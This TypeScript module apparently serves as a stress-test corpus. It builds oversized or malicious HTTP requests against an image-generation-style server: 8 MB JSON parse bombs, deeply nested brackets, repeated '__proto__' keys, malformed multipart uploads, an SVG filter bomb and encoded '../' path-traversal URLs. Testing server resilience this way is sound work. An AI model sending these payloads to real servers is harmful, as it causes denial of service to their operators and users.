// Requests that keep a careless server busy: method, path, headers and body, each at most as large as a JSON body may be.

/** What the server takes by default. */
const BYTES = 7_900_000;
const fill = (unit: string): string => unit.repeat(Math.floor(BYTES / unit.length));

export interface AttackRequest {
  readonly method: string;
  readonly path: string;
  readonly headers?: Record<string, string>;
  readonly body?: string | Buffer;
}

const prompt = (body: string): AttackRequest => ({ method: 'POST', path: '/prompt', body });
const inPrompt = (value: string): AttackRequest =>
  prompt(`{"prompt":{"1":{"class_type":"PreviewAny","inputs":{"source":{"__value__":${value}}}}}}`);

const form = (boundary: string, body: string | Buffer): AttackRequest => ({
  method: 'POST',
  path: '/upload/image',
  headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
  body,
});
const part = (name: string, file?: string): string =>
  `--b\r\nContent-Disposition: form-data; name="${name}"${file === undefined ? '' : `; filename="${file}"`}\r\n\r\n`;

/** 384 bytes of SVG that took 3.4 GB and minutes to draw. */
export const filterSvg = `<svg xmlns="http://www.w3.org/2000/svg" width="11000" height="11000"><filter id="f"><feTurbulence numOctaves="1000" baseFrequency="0.01"/><feGaussianBlur stdDeviation="400"/><feMorphology operator="dilate" radius="300"/></filter><rect width="100%" height="100%" filter="url(#f)"/></svg>`;

export const requests: Readonly<Record<string, () => AttackRequest>> = {
  'lists without content': () => inPrompt(`[${fill('[],').slice(0, -1)}]`),
  'objects without content': () => inPrompt(`[${fill('{},').slice(0, -1)}]`),
  'NaN again and again': () => inPrompt(`[${fill('NaN,').slice(0, -1)}]`),
  'integers beyond 2^53': () => inPrompt(`[${fill('9007199254740993,').slice(0, -1)}]`),
  'one integer of 8 MB': () => inPrompt(fill('1')),
  'one number of 8 MB': () => inPrompt(`0.${fill('1')}e5`),
  'one text of escapes': () => inPrompt(`"${fill('\\"')}"`),
  'one text of backslashes': () => inPrompt(`"${fill('\\\\')}"`),
  'one text that never ends': () => inPrompt(`"${fill('\\')}`),
  'keys without end': () => inPrompt(`{${Array.from({ length: 500_000 }, (_, i) => `"k${i}":1`).join()}}`),
  'one key again and again': () => inPrompt(`{${fill('"a":1,').slice(0, -1)}}`),
  '__proto__ again and again': () => inPrompt(`{${fill('"__proto__":{},').slice(0, -1)}}`),
  'brackets as deep as the body': () => prompt(fill('[')),
  'objects as deep as the body': () => prompt(fill('{"a":')),
  'deep nodes': () => inPrompt(`${'['.repeat(490)}${']'.repeat(490)}`),
  spaces: () => prompt(fill(' ')),
  'many extra fields': () =>
    prompt(`{"prompt":{},"extra_data":{${Array.from({ length: 400_000 }, (_, i) => `"k${i}":1`).join()}}}`),
  'many targets': () => prompt(`{"prompt":{},"partial_execution_targets":[${fill('"1",').slice(0, -1)}]}`),
  'a prompt_id of 8 MB': () => prompt(`{"prompt":{},"prompt_id":"${fill('a')}"}`),
  'a number of 8 MB of digits': () => prompt(`{"prompt":{},"number":"${fill('1')}x"}`),
  'ids to delete': () => ({ method: 'POST', path: '/queue', body: `{"delete":[${fill('"abc",').slice(0, -1)}]}` }),
  'history to delete': () => ({
    method: 'POST',
    path: '/history',
    body: `{"delete":[${fill('"abc",').slice(0, -1)}]}`,
  }),
  'settings of 8 MB': () => ({ method: 'POST', path: '/settings', body: `{"a":"${fill('x')}"}` }),
  'a part that is all dashes': () => form('b', `${part('image', 'a.png')}${fill('\r\n-')}\r\n--b--\r\n`),
  'a part that is nearly boundaries': () => form('b', `${part('image', 'b.png')}${fill('\r\n--')}\r\n--b--\r\n`),
  'parts without end': () => form('b', `${fill(`${part('x')}y\r\n`)}--b--\r\n`),
  'a header of a part of 8 MB': () => form('b', `--b\r\nX: ${fill('a')}\r\n\r\n`),
  'a name of a file of 60 kB': () => form('b', `${part('image', 'a'.repeat(60_000))}x\r\n--b--\r\n`),
  'an SVG full of filters': () => form('b', `${part('image', 'filter.svg')}${filterSvg}\r\n--b--\r\n`),
  'its preview': () => ({ method: 'GET', path: '/view?filename=filter.svg&type=input&preview=webp;90' }),
  'a query of 14 kB': () => ({ method: 'GET', path: `/api/jobs?status=${','.repeat(14_000)}` }),
  'a name of 14 kB': () => ({ method: 'GET', path: `/view?filename=${'%2e%2e%2f'.repeat(1500)}` }),
  'a path of 14 kB': () => ({ method: 'GET', path: `/userdata/${'a%2F'.repeat(3500)}` }),
};
